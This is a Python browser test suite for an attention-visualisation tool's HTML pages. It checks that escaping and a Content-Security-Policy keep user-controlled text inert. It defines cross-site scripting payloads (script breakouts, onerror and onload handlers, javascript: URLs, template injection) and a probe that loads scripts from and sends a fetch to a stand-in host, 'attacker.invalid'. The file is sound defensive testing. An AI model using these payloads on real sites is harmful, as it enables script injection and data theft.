"""Hostile input in the attention explorer, checked in a real browser (Debian's headless Chromium).

Every string a user controls goes in as a script payload: the sentences and ``--target`` texts of
``qkv attend``, a ``--corpus`` file's lines and its path, the two ``--compare`` sentences, the model
folder's name (shown in the page's title and model line), and in ``qkv serve`` the ``--text``,
the model folder names, the sentences typed into the page and a server error that quotes the
request. Each page is opened and used (examples, attention views, layers, heads, hover, tabs,
saliency outputs, Save SVG); no payload may run (``window.__pwned`` stays undefined, no dialog
opens, no element or ``on*`` handler is injected), each payload is shown as its literal text, and
the page makes no request but to itself.

The page's Content-Security-Policy (a ``<meta>``, :mod:`qkv.viz.html`) is checked as written and
as Chromium enforces it: remote scripts, styles, images, frames, ``fetch`` and ``eval`` are refused.
Its ``script-src`` allows the page's one inline script by its SHA-256 only, so a script element or
``on*`` handler that got into the DOM some other way does not run either: escaping is not the only
defence. ``qkv serve`` adds ``frame-ancestors 'none'`` as a header (a meta cannot say it).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import urllib.error
import urllib.request
import xml.etree.ElementTree as ET
from dataclasses import asdict
from html.parser import HTMLParser
from pathlib import Path

import pytest
import torch
from chromium import chromium

# the module is skipped when chromium or playwright is missing (test_browser skips at import)
from test_browser import Watch, offline_page, texts, wait_renders

from qkv import Transformer, TransformerConfig
from qkv.cli import main
from qkv.data.tokenizer import Tokenizer
from qkv.runs.folder import create_run
from qkv.training.checkpoint_files import save_weights
from qkv.viz.lm_explorer import visible

# ---------------------------------------------------------------------------------------- payloads
SCRIPT = "</script><script>window.__pwned=1;alert(1)</script>"
IMG = '<img src=x onerror="window.__pwned=1;alert(1)">'
SVG = '"><svg onload=window.__pwned=1>'
JS_URL = 'javascript:window.__pwned=1//<a href="javascript:alert(1)">x</a>'
LINE_SEPARATORS = 'a\u2028b\u2029c";window.__pwned=1;//'
TEMPLATE = "${window.__pwned=1}`${alert(1)}`{{constructor.constructor('alert(1)')()}}"
COMMENT = "<!--<script>window.__pwned=1//-->"
ENTITIES = "&lt;img src=x onerror=window.__pwned=1&gt; &amp; &#60;b&#62;"
IFRAME = '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'
JSON_BREAK = '"}]}</script><script>window.__pwned=1</script>'
PAYLOADS = [SCRIPT, IMG, SVG, JS_URL, LINE_SEPARATORS, TEMPLATE, COMMENT, ENTITIES, IFRAME, JSON_BREAK]
assert all(len(p) < 80 for p in PAYLOADS)  # the sentence menu shortens longer texts

# Folder names may hold anything but "/" and NUL.
RUN_NAME = 'x"><img src=x onerror="window.__pwned=1;alert(1)">'
BERT_NAME = "'><svg onload=window.__pwned=2>${window.__pwned=3}`${alert(3)}`"
# A corpus path can hold "/" (as folders): "<" / "script><script>...<" / "script>".
CORPUS_FOLDERS = "</script><script>window.__pwned=1</script>"

BERT_WORDS = [
    "script",
    "img",
    "src",
    "x",
    "onerror",
    "window",
    "pwned",
    "alert",
    "svg",
    "onload",
    "javascript",
    "a",
    "href",
    "iframe",
    "srcdoc",
    "parent",
    "constructor",
    "b",
    "c",
    "amp",
    "lt",
    "gt",
    "1",
    "2",
    "3",
    *"<>/=\"';(){}$`._:&#!-[]",
]

# What the page may ever fetch or load: itself (file:, or the server's origin), data: and blob: URLs.
LOCAL = ("file:", "data:", "blob:")

INERT = """() => ({
  pwned: typeof window.__pwned,
  scripts: document.scripts.length,
  injected: Array.from(document.querySelectorAll("img, iframe, frame, object, embed, base, form:not(#live-form), "
                                                 + "meta[http-equiv='refresh' i], a[href]"))
    .map(e => e.outerHTML.slice(0, 120)),
  handlers: Array.from(document.querySelectorAll("*")).flatMap(e => Array.from(e.attributes)
    .filter(a => /^on/i.test(a.name) || (/^(href|src|action|formaction|xlink:href)$/i.test(a.name)
                                        && /^\\s*javascript:/i.test(a.value)))
    .map(a => e.tagName + " " + a.name + "=" + a.value.slice(0, 80))),
})"""


@pytest.fixture(scope="module")
def browser():
    with chromium() as instance:
        yield instance


class Session:
    """A browser context in which nothing but ``allowed`` URLs load, watching requests, dialogs and errors."""

    def __init__(self, browser, *, origin: str | None = None):
        self.blocked: list[str] = []
        self.dialogs: list[str] = []
        if origin is None:
            self.allowed = LOCAL
            self.context, self.page = offline_page(browser, self.blocked)
        else:
            self.allowed = (origin + "/", "data:", "blob:")
            self.context = browser.new_context(viewport={"width": 1320, "height": 900})

            def only_origin(route):
                if route.request.url.startswith(self.allowed):
                    route.continue_()
                else:
                    self.blocked.append(route.request.url)
                    route.abort()

            self.context.route("**/*", only_origin)
            self.page = self.context.new_page()
        self.watch = Watch(self.page)
        self.failed: dict[str, str] = {}
        self.page.on("requestfailed", lambda r: self.failed.setdefault(r.url, r.failure))
        self.page.on("dialog", self._dialog)

    def _dialog(self, dialog):
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def assert_inert(self):
        state = self.page.evaluate(INERT)
        assert state == {"pwned": "undefined", "scripts": 2, "injected": [], "handlers": []}
        assert self.dialogs == []
        assert self.blocked == [] and all(url.startswith(self.allowed) for url in self.watch.requests), (
            self.watch.requests
        )
        assert self.watch.errors == []

    def assert_refused_by_csp(self, expected: set[str]):
        """The requests to other origins are exactly ``expected`` (Chromium reports the blocked
        ``<script>``, ``<link>`` and ``<img>`` loads; frames and ``fetch`` not at all), each failed
        with "csp", and none reached the network (the route, which aborts them, saw none)."""
        outside = {url for url in self.watch.requests if not url.startswith(self.allowed)}
        assert outside == expected
        for _ in range(200):  # the failures are reported a moment after the violations
            if outside <= set(self.failed):
                break
            self.page.wait_for_timeout(25)
        assert {url: self.failed.get(url) for url in outside} == dict.fromkeys(outside, "csp")
        assert self.blocked == []

    def close(self):
        self.context.close()


def options(page, select: str) -> list[str]:
    return page.eval_on_selector_all(f"{select} option", "os => os.map(o => o.textContent)")


def text(page, selector: str) -> str:
    return page.eval_on_selector(selector, "e => e.textContent")


def token_text(tokens: list[str]) -> str:
    return "".join(tokens)


def click_tab(page, tab: str, renders: int) -> int:
    page.click(f"#tabs button[data-tab='{tab}']")
    return wait_renders(page, renders)


def parse_policy(value: str) -> dict[str, list[str]]:
    return {d.split()[0].lower(): d.split()[1:] for d in value.split(";") if d.strip()}


def check_policy(value: str, *, live: bool) -> None:
    """A policy that loads nothing from anywhere: nothing by default, only inline scripts and styles
    (or hashed/nonced ones), images only as data: URLs, and in live mode requests back to the page's
    own server only; never eval, wildcards, other hosts or schemes."""
    policy = parse_policy(value)
    assert policy["default-src"] == ["'none'"]
    inline = re.compile(r"'(unsafe-inline|sha(256|384|512)-[A-Za-z0-9+/=]+|nonce-[A-Za-z0-9+/=_-]+)'")
    for directive, sources in policy.items():
        for source in sources:
            allowed = (
                source == "'none'"
                or inline.fullmatch(source)
                and directive.startswith(("script-src", "style-src"))
                or source == "data:"
                and directive == "img-src"
                or source == "'self'"
                and directive == "connect-src"
                and live
            )
            assert allowed, f"{directive} allows {source}"
    assert policy.get("connect-src", ["'none'"]) == (["'self'"] if live else ["'none'"])


class Tags(HTMLParser):
    """The start tags of a page as an HTML parser sees them (script text is not parsed for tags)."""

    def __init__(self):
        super().__init__()
        self.names: set[str] = set()
        self.scripts: list[str | None] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        if tag == "script":
            self.scripts.append(dict(attrs).get("type"))
        self.handlers += [f"{tag} {name}" for name, _ in attrs if name.startswith("on")]


def check_page_head(html: str, *, live: bool) -> str:
    """The page's one CSP meta, before any style or script; its policy text."""
    metas = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html, flags=re.IGNORECASE)
    assert len(metas) == 1
    position = html.lower().index("content-security-policy")
    assert position < html.index("<style>") and position < html.index("<script")
    tags = Tags()
    tags.feed(html)
    tags.close()
    # the JSON data element and the page's code, and nothing the data could have added
    assert tags.scripts == ["application/json", None]
    assert tags.handlers == [] and not tags.names & {"img", "iframe", "frame", "object", "embed", "base", "a"}
    check_policy(metas[0], live=live)
    return metas[0]


# -------------------------------------------------------------------------------------- the models
def make_hostile_run(folder: Path) -> Path:
    """A tiny qkv translation run folder (untrained: 2 + 2 layers, 2 heads, byte-level BPE, so every
    character of a payload comes out as token text)."""
    tokenizer = Tokenizer.train(["a dog runs on the beach", "ein hund läuft am strand"] * 4, vocab_size=300)
    torch.manual_seed(5)
    config = TransformerConfig(
        src_vocab_size=tokenizer.vocab_size,
        tgt_vocab_size=tokenizer.vocab_size,
        d_model=32,
        num_heads=2,
        num_encoder_layers=2,
        num_decoder_layers=2,
        d_ff=64,
        max_len=128,
        dropout=0.0,
        share_embeddings=True,
    )
    model = Transformer(config).eval()
    return create_run(
        folder,
        {"model": asdict(config)},
        tokenizer,
        write_initial=lambda tmp: save_weights(model, tmp / "model.safetensors"),
    )


def make_hostile_bert(folder: Path) -> Path:
    """A tiny BERT whose vocabulary holds the payloads' punctuation and words (so they show as tokens)."""
    transformers = pytest.importorskip("transformers")
    folder.mkdir(parents=True)
    vocab = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", *BERT_WORDS]
    (folder / "vocab.txt").write_text("\n".join(vocab) + "\n", encoding="utf-8")
    config = transformers.BertConfig(
        vocab_size=len(vocab),
        hidden_size=32,
        num_hidden_layers=2,
        num_attention_heads=4,
        intermediate_size=48,
        max_position_embeddings=64,
        initializer_range=0.3,
    )
    torch.manual_seed(2)
    transformers.BertModel(config).save_pretrained(str(folder))
    return folder


@pytest.fixture(scope="module")
def run_folder(tmp_path_factory):
    return make_hostile_run(tmp_path_factory.mktemp("runs") / RUN_NAME)


@pytest.fixture(scope="module")
def bert_folder(tmp_path_factory):
    return make_hostile_bert(tmp_path_factory.mktemp("berts") / BERT_NAME)


@pytest.fixture(scope="module")
def sentences_page(run_folder, tmp_path_factory):
    """``qkv attend`` with every payload as a sentence and another as its ``--target``, on the run folder."""
    run = run_folder
    out = tmp_path_factory.mktemp("pages") / "sentences.html"
    targets = PAYLOADS[1:] + PAYLOADS[:1]
    args = ["attend", *PAYLOADS, "--model", str(run), "-o", str(out)]
    for target in targets:
        args += ["--target", target]
    assert main(args) == 0
    return out, targets


# ---------------------------------------------------------------------------------- static pages
def test_sentences_targets_and_folder_name_in_qkv_attend(browser, sentences_page, tmp_path):
    path, targets = sentences_page
    html = path.read_text(encoding="utf-8")
    check_page_head(html, live=False)
    for payload in PAYLOADS + [RUN_NAME]:  # markup sits in the page escaped (JSON \u003c..., HTML &lt;...)
        assert payload not in html or not set(payload) & set("<>&\u2028\u2029")
    s = Session(browser)
    page = s.page
    try:
        page.goto(path.as_uri())
        s.assert_inert()  # before anything is drawn: nothing ran while the page loaded
        renders = wait_renders(page, 0)
        title = "qkv attention explorer: " + RUN_NAME
        assert page.title() == title and text(page, "#title") == title
        assert text(page, "#model-name") == "model: " + RUN_NAME
        assert options(page, "#example-select") == PAYLOADS
        for i, (sentence, target) in enumerate(zip(PAYLOADS, targets)):
            if i:
                page.select_option("#example-select", str(i))
                renders = wait_renders(page, renders)
            assert text(page, "#output") == "output: " + target
            source = texts(page, "query")
            assert source[-1] == "</s>"
            if sentence.isascii():  # byte-level tokens: the payload's characters, spaces as ␣
                assert token_text(source[:-1]) == visible(sentence)
            else:  # a line separator is shown as the escape "\u2028", split over its bytes
                assert "\\" in token_text(source) and "window.__pwned=1" in token_text(source)
            s.assert_inert()

        # the decoder view of the last example: its target's characters; then cross-attention
        page.select_option("#view-select", "1")
        renders = wait_renders(page, renders)
        assert token_text(texts(page, "query")[1:]) == visible(targets[-1])
        page.select_option("#view-select", "2")
        renders = wait_renders(page, renders)
        page.select_option("#view-select", "0")
        renders = wait_renders(page, renders)
        # layers, heads, hover, a model-view cell
        page.select_option("#layer-select", "1")
        renders = wait_renders(page, renders)
        page.click("#head-toggles .head-toggle[data-head='0']")
        renders = wait_renders(page, renders)
        page.click("#heads-all")
        renders = wait_renders(page, renders)
        page.hover("#head-svg text.query[data-index='1']")
        page.hover("#head-svg text.key[data-index='3']")
        page.mouse.move(1200, 10)
        page.click("#model-grid canvas[data-layer='0'][data-head='1']")
        renders = wait_renders(page, renders)
        s.assert_inert()

        # the other panels of the IMG example: summary, rollout, saliency (its outputs are the target's tokens)
        page.select_option("#example-select", "1")
        renders = wait_renders(page, renders)
        for tab in ("summary", "rollout", "saliency"):
            renders = click_tab(page, tab, renders)
            s.assert_inert()
        chips = page.eval_on_selector_all("#saliency-outputs .output-chip", "cs => cs.map(c => c.textContent)")
        assert token_text(chips) == visible(targets[1]) + "</s>"
        page.click("#saliency-outputs .output-chip[data-index='2']")
        renders = wait_renders(page, renders)

        # Save SVG: the figure's title quotes the sentence; the file holds it as XML text, and opened
        # in the browser, nothing runs
        with page.expect_download() as download:
            page.click("#saliency-view .save button[data-format='svg']")
        svg = tmp_path / "saliency.svg"
        download.value.save_as(svg)
        raw = svg.read_text(encoding="utf-8")
        assert "<img" not in raw and "<script" not in raw
        root = ET.fromstring(raw)
        drawn = {"svg", "g", "rect", "line", "text", "title", "image"}
        assert {node.tag.split("}")[1] for node in root.iter()} <= drawn
        assert not [name for node in root.iter() for name in node.attrib if name.lower().startswith("on")]
        shown = "".join(node.text or "" for node in root.iter("{http://www.w3.org/2000/svg}text"))
        assert "\u201c" + IMG + "\u201d" in shown
        s.assert_inert()
        page.goto(svg.as_uri())
        assert page.evaluate("typeof window.__pwned") == "undefined" and s.dialogs == []
        assert s.blocked == [] and all(url.startswith(LOCAL) for url in s.watch.requests)
    finally:
        s.close()


def test_corpus_lines_and_path_in_qkv_attend(browser, run_folder, tmp_path):
    run = run_folder
    corpus = tmp_path / CORPUS_FOLDERS / "lines.txt"  # the path itself holds a </script> payload
    corpus.parent.mkdir(parents=True)
    # str.splitlines splits at U+2028/U+2029 too, so that payload would be cut in three lines
    lines = [p for p in PAYLOADS if p != LINE_SEPARATORS]
    corpus.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "corpus.html"
    assert main(["attend", "--corpus", str(corpus), "--model", str(run), "-o", str(out)]) == 0  # its first line shown
    html = out.read_text(encoding="utf-8")
    check_page_head(html, live=False)
    assert CORPUS_FOLDERS not in html
    s = Session(browser)
    page = s.page
    try:
        page.goto(out.as_uri())
        s.assert_inert()  # before anything is drawn: nothing ran while the page loaded
        renders = wait_renders(page, 0)
        assert options(page, "#example-select") == [lines[0]]
        assert token_text(texts(page, "query")[:-1]) == visible(lines[0])
        renders = click_tab(page, "summary", renders)
        note = f"({len(lines)} sentences of {corpus})"
        assert text(page, "#summary-corpus-note") == note
        page.check("#summary-corpus")
        renders = wait_renders(page, renders)
        assert text(page, "#summary-caption").endswith(f"averaged over {len(lines)} sentences of {corpus}")
        page.select_option("#view-select", "2")  # cross-attention's corpus average
        renders = wait_renders(page, renders)
        s.assert_inert()
    finally:
        s.close()


def test_compare_sentences_and_bert_folder_name_in_qkv_attend(browser, bert_folder, tmp_path):
    bert = bert_folder
    first, second = IMG, SCRIPT  # they share tokens ("<", "window", "pwned", "alert", ...) for the compare panel
    out = tmp_path / "compare.html"
    assert main(["attend", first, second, "--compare", "--model", str(bert), "-o", str(out)]) == 0
    html = out.read_text(encoding="utf-8")
    check_page_head(html, live=False)
    s = Session(browser)
    page = s.page
    try:
        page.goto(out.as_uri())
        s.assert_inert()  # before anything is drawn: nothing ran while the page loaded
        renders = wait_renders(page, 0)
        assert text(page, "#title") == "qkv attention explorer: " + BERT_NAME == page.title()
        assert text(page, "#model-name") == "model: " + BERT_NAME
        assert options(page, "#example-select") == [first, second]
        tokens = texts(page, "query")
        assert tokens[0] == "[CLS]" and {"<", "img", "onerror", "=", '"', ">"} <= set(tokens)
        renders = click_tab(page, "compare", renders)
        about = text(page, "#compare-about")
        assert about.startswith("\u201c" + first + "\u201d vs \u201c" + second + "\u201d")
        page.hover("#compare-left text.query[data-index='1']")
        page.mouse.move(1200, 10)
        if page.is_visible("#compare-sort"):
            page.select_option("#compare-sort", "0")
            renders = wait_renders(page, renders)
        page.click("#compare-heads .compare-head >> nth=1")
        renders = wait_renders(page, renders)
        s.assert_inert()
        renders = click_tab(page, "saliency", renders)
        assert "cosine similarity with \u201c" + second + "\u201d" in text(page, "#saliency-about")
        page.select_option("#example-select", "1")
        renders = wait_renders(page, renders)
        assert "cosine similarity with \u201c" + first + "\u201d" in text(page, "#saliency-about")
        s.assert_inert()
    finally:
        s.close()


# ------------------------------------------------------------------------------------------- CSP
ATTACKER = "https://attacker.invalid/"

# Each line loads something from another origin or evaluates a string; the CSP must refuse them all.
# They run from a timer: code that page.evaluate runs directly is exempt from the eval checks
# (DevTools evaluation), the page's own callbacks are not.
PROBES = """(attacker) => {
  window.__violations = [];
  document.addEventListener("securitypolicyviolation",
                            e => window.__violations.push(e.effectiveDirective + " " + e.blockedURI));
  const add = (tag, attrs, parent) => {
    const node = document.createElement(tag);
    for (const name in attrs) { node.setAttribute(name, attrs[name]); }
    (parent || document.body).appendChild(node);
    return node;
  };
  setTimeout(async () => {
    add("script", { src: attacker + "evil.js" }, document.head);
    add("link", { rel: "stylesheet", href: attacker + "evil.css" }, document.head);
    add("img", { src: attacker + "pixel.png" });
    add("iframe", { src: attacker + "frame.html" });
    const result = {};
    try { eval("window.__pwned = 'eval'"); result.evaluated = "ran"; } catch (e) { result.evaluated = e.name; }
    try { new Function("window.__pwned = 'Function'")(); result.constructed = "ran"; }
    catch (e) { result.constructed = e.name; }
    setTimeout("window.__pwned = 'timer string'", 0);
    try { await fetch(attacker + "leak?data=1"); result.fetched = "fetched"; } catch (e) { result.fetched = e.name; }
    window.__probes = result;
  }, 0);
}"""
PROBED = {"fetched": "TypeError", "evaluated": "EvalError", "constructed": "EvalError"}


def probe(page) -> dict:
    page.evaluate(PROBES, ATTACKER)
    return page.wait_for_function("window.__probes").json_value()


REFUSED = {"script-src-elem", "style-src-elem", "img-src", "frame-src", "connect-src", "script-src"}


def refused_directives(page) -> set[str]:
    page.wait_for_function(
        "need => need.every(d => window.__violations.some(v => v.split(' ')[0] === d))", arg=sorted(REFUSED)
    )
    violations = page.evaluate("window.__violations")
    assert [v for v in violations if not v.split(" ", 1)[1].startswith((ATTACKER.rstrip("/"), "eval"))] == []
    return {v.split(" ")[0] for v in violations}


def test_csp_meta_is_enforced_by_chromium(browser, sentences_page):
    path, _ = sentences_page
    policy = check_page_head(path.read_text(encoding="utf-8"), live=False)
    s = Session(browser)
    page = s.page
    try:
        page.goto(path.as_uri())
        wait_renders(page, 0)
        assert page.eval_on_selector("meta[http-equiv='Content-Security-Policy' i]", "m => m.content") == policy
        assert probe(page) == PROBED
        assert refused_directives(page) == REFUSED
        s.assert_refused_by_csp({ATTACKER + name for name in ("evil.js", "evil.css", "pixel.png")})
        assert page.evaluate("typeof window.__pwned") == "undefined"
    finally:
        s.close()


def test_csp_refuses_injected_inline_script_and_handlers(browser, sentences_page):
    path, _ = sentences_page
    s = Session(browser)
    page = s.page
    try:
        page.goto(path.as_uri())
        wait_renders(page, 0)
        page.evaluate("""() => setTimeout(() => {
          const script = document.createElement("script");
          script.textContent = "window.__inline = 'script'";
          document.body.appendChild(script);
          const div = document.createElement("div");
          div.setAttribute("onclick", "window.__handler = 'onclick'");
          document.body.appendChild(div);
          div.click();
          window.__done = [typeof window.__inline, typeof window.__handler];
        }, 0)""")
        ran = page.wait_for_function("window.__done").json_value()
        assert ran == ["undefined", "undefined"]
    finally:
        s.close()


# ------------------------------------------------------------------------------------------ serve
SERVE_TEXT = '</script><img src=x onerror="window.__pwned=1;alert(1)">${alert(2)}\u2028<!--'


@pytest.fixture(scope="module")
def served(run_folder, bert_folder, tmp_path_factory):
    """``qkv serve`` on port 0 with both hostile model folders and a hostile ``--text``: its origin."""
    env = dict(os.environ, PYTHONUNBUFFERED="1", OMP_NUM_THREADS="1")
    cmd = [
        sys.executable,
        "-c",
        "import sys; from qkv.cli import main; sys.exit(main())",
        "serve",
        "--model",
        str(run_folder),
        "--model",
        str(bert_folder),
        "--port",
        "0",
        "--text",
        SERVE_TEXT,
        "--max-chars",
        "200",
    ]
    log = tmp_path_factory.mktemp("serve") / "stderr.txt"
    with open(log, "w", encoding="utf-8") as stderr:
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=stderr, text=True, env=env)
    try:
        line = proc.stdout.readline()
        match = re.search(r"on (http://127\.0\.0\.1:\d+)/ ", line)
        assert match, (line, log.read_text(encoding="utf-8"))
        yield match.group(1)
    finally:
        proc.terminate()
        proc.wait(timeout=60)
        proc.stdout.close()


def get(url: str, data: bytes | None = None):
    request = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json"} if data else {})
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, response.headers, response.read().decode("utf-8")
    except urllib.error.HTTPError as err:
        with err:
            return err.code, err.headers, err.read().decode("utf-8")


def test_qkv_serve_with_hostile_text_models_and_errors(browser, served):
    origin = served
    # the page: HTML with its CSP meta (live: requests back to the server only); the server's own
    # header adds what a meta cannot say: no other site may frame the page
    status, headers, html = get(origin + "/")
    assert status == 200 and headers["Content-Type"] == "text/html; charset=utf-8"
    assert headers["X-Content-Type-Options"] == "nosniff"
    check_page_head(html, live=True)
    assert parse_policy(headers["Content-Security-Policy"]) == {"frame-ancestors": ["'none'"]}
    assert headers["X-Frame-Options"] == "DENY"
    for payload in (SERVE_TEXT, RUN_NAME, BERT_NAME):
        assert payload not in html
    # an API answer quoting hostile input is JSON, never sniffed as HTML
    body = json.dumps({"text": "a dog", "model": IMG}).encode()
    status, headers, answer = get(origin + "/api/attend", body)
    assert status == 400 and IMG in json.loads(answer)["error"]
    assert headers["Content-Type"] == "application/json; charset=utf-8"
    assert headers["X-Content-Type-Options"] == "nosniff"
    status, headers, answer = get(origin + "/<svg/onload=alert(1)>")
    assert status == 404 and "<svg/onload=alert(1)>" in json.loads(answer)["error"]
    assert headers["Content-Type"] == "application/json; charset=utf-8"

    s = Session(browser, origin=origin)
    page = s.page
    try:
        page.goto(origin + "/")
        s.assert_inert()  # before anything is drawn: nothing ran while the page loaded
        renders = wait_renders(page, 0)
        assert options(page, "#example-select") == [SERVE_TEXT]
        assert options(page, "#live-model") == [RUN_NAME, BERT_NAME]
        assert text(page, "#model-name") == "model: " + RUN_NAME
        assert "window.__pwned=1" in token_text(texts(page, "query"))
        s.assert_inert()
        # two sentences typed into the page, through the BERT: the compare panel quotes both
        page.select_option("#live-model", "1")
        page.fill("#live-text", IMG)
        page.fill("#live-compare", SVG)
        page.click("#live-submit")
        renders = wait_renders(page, renders)
        assert options(page, "#example-select") == [SERVE_TEXT, IMG, SVG]
        assert text(page, "#compare-about").startswith("\u201c" + IMG + "\u201d vs \u201c" + SVG + "\u201d")
        assert text(page, "#model-name") == "model: " + BERT_NAME
        renders = click_tab(page, "attention", renders)
        page.select_option("#layer-select", "1")
        renders = wait_renders(page, renders)
        page.hover("#head-svg text.query[data-index='1']")
        page.mouse.move(1200, 10)
        renders = click_tab(page, "saliency", renders)
        assert "\u201c" + SVG + "\u201d" in text(page, "#saliency-about")
        s.assert_inert()
        # the translation run, one more sentence
        page.select_option("#live-model", "0")
        page.fill("#live-text", TEMPLATE)
        page.fill("#live-compare", "")
        page.click("#live-submit")
        renders = wait_renders(page, renders)
        assert options(page, "#example-select")[-1] == TEMPLATE
        renders = click_tab(page, "attention", renders)
        assert token_text(texts(page, "query")[:-1]) == visible(TEMPLATE)
        s.assert_inert()
        # a server error quoting a hostile model name (a tampered page) is shown as text
        page.evaluate("name => { window.qkvExplorer.live.models[0] = name; }", SVG + IMG)
        page.fill("#live-text", "a dog")
        page.click("#live-submit")
        page.wait_for_selector("#error:not([hidden])")
        assert f"unknown model {SVG + IMG!r}" in text(page, "#error")
        errors = list(s.watch.errors)
        assert errors and all("status of 400" in e for e in errors)  # Chromium logs the 400 only
        s.watch.errors.clear()
        s.assert_inert()
        # live mode's CSP: requests to the server itself only; other origins and eval refused
        assert page.evaluate("fetch('/api/models').then(r => r.json()).then(d => d.models)") == [RUN_NAME, BERT_NAME]
        assert probe(page) == PROBED
        assert refused_directives(page) == REFUSED
        s.assert_refused_by_csp({ATTACKER + name for name in ("evil.js", "evil.css", "pixel.png")})
        # a 404 quoting a hostile path is JSON in the browser too: nothing runs
        response = page.goto(origin + "/%3Csvg%20onload=window.__pwned=1%3E")
        assert response.status == 404 and page.evaluate("document.contentType") == "application/json"
        assert page.evaluate("typeof window.__pwned") == "undefined" and s.dialogs == []
    finally:
        s.close()
